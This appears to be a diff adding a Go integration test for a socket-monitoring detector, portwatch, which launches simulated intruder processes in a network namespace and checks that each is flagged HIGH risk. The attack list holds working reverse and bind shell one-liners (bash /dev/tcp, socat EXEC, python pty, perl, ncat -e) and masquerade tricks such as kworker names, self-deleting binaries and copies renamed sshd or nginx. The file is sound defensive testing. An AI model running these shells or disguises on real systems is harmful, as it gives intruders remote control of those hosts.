@@ -1,0 +1,184 @@
+//go:build linux
+
+package assess
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/portwatch/portwatch/sockets"
+)
+
+// corpusAttack is one attacker's socket, made by a real process in the
+// attackers' namespace: the kit of a break-in (bind and reverse shells,
+// renamed copies of tools, inline code, a kernel thread's name). Every one
+// must be caught: HIGH, with one of the findings that say what it is.
+type corpusAttack struct {
+	name   string
+	script string // run as root in the namespace; ends by exec'ing the attacker's process
+	listen uint16 // the process listens here; 0: it holds a connection to the peer's rport
+	rport  uint16
+	caught []string // one of these findings, HIGH
+	pid    int
+}
+
+func (a *corpusAttack) find(vs []*Verdict) *Verdict {
+	for _, v := range vs {
+		s := &v.Socket
+		mine := false
+		for _, p := range s.Owners {
+			mine = mine || int(p.PID) == a.pid
+		}
+		switch {
+		case !mine:
+		case a.listen != 0 && s.IsListening() && s.LPort == a.listen:
+			return v
+		case a.listen == 0 && s.State == sockets.StateEstablished && s.RPort == a.rport:
+			return v
+		}
+	}
+	return nil
+}
+
+func (a *corpusAttack) judge(v *Verdict) corpusRow {
+	row := corpusRow{who: "attack: " + a.name, v: v, attack: true}
+	var why []string
+	if v.Risk < RiskHigh {
+		why = append(why, "risk "+v.Risk.String())
+	}
+	found := false
+	for _, c := range a.caught {
+		if f := hasCode(v.Findings, c); f != nil && f.Severity >= RiskHigh {
+			found = true
+		}
+	}
+	if !found {
+		why = append(why, "none of "+strings.Join(a.caught, ", ")+" HIGH")
+	}
+	row.wrong = strings.Join(why, "; ")
+	return row
+}
+
+// The peer's listener: accepts the reverse shells and holds them open.
+const peerScript = `import socket,sys,threading,time
+def serve(s):
+    held=[]
+    while True:
+        c,_=s.accept(); held.append(c)
+for p in sys.argv[1:]:
+    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("` + corpusPeer + `", int(p))); s.listen(64)
+    threading.Thread(target=serve, args=(s,), daemon=True).start()
+print("ready", flush=True)
+time.sleep(3600)
+`
+
+func peerSetup(t *testing.T, peer string) {
+	t.Helper()
+	script := scriptFile(t, peerScript)
+	// The veth's address is usable once duplicate address detection is
+	// done; bind may fail for a moment before.
+	startReady(t, exec.Command("ip", "netns", "exec", peer, "python3", script, "443", "4444", "22"))
+}
+
+// A service's script, the way a disguised implant runs one: it listens
+// (argv: port) or calls home (argv: host port) and holds the socket.
+const implantScript = `import socket,sys,time,ctypes,os
+if os.environ.get("PW_DELETE_SELF"):
+    os.unlink(os.readlink("/proc/self/exe"))
+if len(sys.argv) > 3:
+    ctypes.CDLL(None).prctl(15, sys.argv[3].encode(), 0, 0, 0)  # PR_SET_NAME
+if sys.argv[1] == "listen":
+    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", int(sys.argv[2]))); s.listen()
+else:
+    s=socket.create_connection(("` + corpusPeer + `", int(sys.argv[2])))
+time.sleep(3600)
+`
+
+func startAttacks(t *testing.T, ns string) []*corpusAttack {
+	t.Helper()
+	// A root-owned directory no package lists, as an attacker with root
+	// makes one (/usr/local/lib/...): no world-writable place to give it
+	// away.
+	kit, err := os.MkdirTemp("/usr/local/lib", "portwatch-corpus-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(kit) })
+	os.Chmod(kit, 0o755)
+	copyTo := func(src, dst string) string {
+		t.Helper()
+		data, err := os.ReadFile(src)
+		if err != nil {
+			t.Skipf("no %s for the attacker's kit: %v", src, err)
+		}
+		os.MkdirAll(filepath.Dir(dst), 0o755)
+		if err := os.WriteFile(dst, data, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		return dst
+	}
+	py := realPython(t)
+	implant := scriptFile(t, implantScript)
+	sshd := copyTo(py, filepath.Join(kit, "sbin", "sshd"))
+	httpd := copyTo(py, filepath.Join(kit, "bin", "httpd"))
+	shm, err := os.MkdirTemp("/dev/shm", ".pw-corpus-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(shm) })
+	dropped := copyTo(py, filepath.Join(shm, "dbus-daemon"))
+
+	attacks := []*corpusAttack{
+		{name: "python copy as sshd on 22", script: fmt.Sprintf("exec %s %s listen 22", sshd, implant), listen: 22, caught: []string{CodeUnownedExe}},
+		{name: "socat bind shell", script: "exec socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", listen: 4444, caught: []string{CodeExecTool}},
+		{name: "socat reverse shell to 443", script: "exec socat TCP:" + corpusPeer + ":443 EXEC:'bash -li',pty,stderr,setsid", rport: 443, caught: []string{CodeExecTool, CodeReverseShell}},
+		{name: "bash /dev/tcp reverse shell to 443", script: "exec bash -i >& /dev/tcp/" + corpusPeer + "/443 0>&1", rport: 443, caught: []string{CodeReverseShell}},
+		{name: "python3 -c pty reverse shell to 443", script: `exec python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("` + corpusPeer + `",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
+			rport: 443, caught: []string{CodeReverseShell, CodeInlineCode}},
+		{name: "python3 -c listening on 443", script: `exec python3 -c 'import socket,time;s=socket.socket();s.bind(("0.0.0.0",443));s.listen();time.sleep(3600)'`,
+			listen: 443, caught: []string{CodeInlineCode}},
+		{name: "perl -e reverse shell to 443", script: `exec perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(443,inet_aton("` + corpusPeer + `")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
+			rport: 443, caught: []string{CodeReverseShell}},
+		{name: "kworker-named beacon to 443", script: fmt.Sprintf("exec -a '[kworker/0:2]' python3 %s connect 443 kworker/0:2", implant), rport: 443, caught: []string{CodeKernelName}},
+		{name: "kworker-named listener", script: fmt.Sprintf("exec -a 'kworker/u8:1' python3 %s listen 8443 kworker/u8:1", implant), listen: 8443, caught: []string{CodeKernelName}},
+		{name: "deleted httpd listening", script: fmt.Sprintf("PW_DELETE_SELF=1 exec %s %s listen 8000", httpd, implant), listen: 8000, caught: []string{CodeDeletedExe}},
+		{name: "binary in /dev/shm listening", script: fmt.Sprintf("exec %s %s listen 9999", dropped, implant), listen: 9999, caught: []string{CodeWorldWritableExe}},
+	}
+	if ncat, err := exec.LookPath("ncat"); err == nil {
+		nginx := copyTo(ncat, filepath.Join(kit, "sbin", "nginx"))
+		attacks = append(attacks,
+			&corpusAttack{name: "ncat copy as nginx, -e /bin/sh", script: "exec " + nginx + " -lk 0.0.0.0 8080 -e /bin/sh", listen: 8080, caught: []string{CodeUnownedExe, CodeExecTool}},
+			&corpusAttack{name: "ncat reverse shell to 443", script: "exec ncat " + corpusPeer + " 443 -e /bin/sh", rport: 443, caught: []string{CodeExecTool, CodeReverseShell}},
+			&corpusAttack{name: "ncat --sh-exec bind shell", script: "exec ncat -lk 31337 --sh-exec 'bash -i'", listen: 31337, caught: []string{CodeExecTool}},
+		)
+	}
+	socat, _ := exec.LookPath("socat")
+	if socat != "" {
+		redis := copyTo(socat, filepath.Join(kit, "bin", "redis-server"))
+		attacks = append(attacks, &corpusAttack{name: "socat copy as redis-server, EXEC", script: "exec " + redis + " TCP-LISTEN:6379,reuseaddr,fork EXEC:/bin/sh", listen: 6379, caught: []string{CodeUnownedExe, CodeExecTool}})
+	}
+	var run []*corpusAttack
+	for _, a := range attacks {
+		if strings.Contains(a.script, "socat") && socat == "" {
+			t.Logf("skip attack %s: socat is not installed", a.name)
+			continue
+		}
+		run = append(run, a)
+		cmd := exec.Command("ip", "netns", "exec", ns, "bash", "-c", a.script)
+		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		a.pid = cmd.Process.Pid
+		go cmd.Wait()
+		t.Cleanup(func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) })
+	}
+	return run
+}
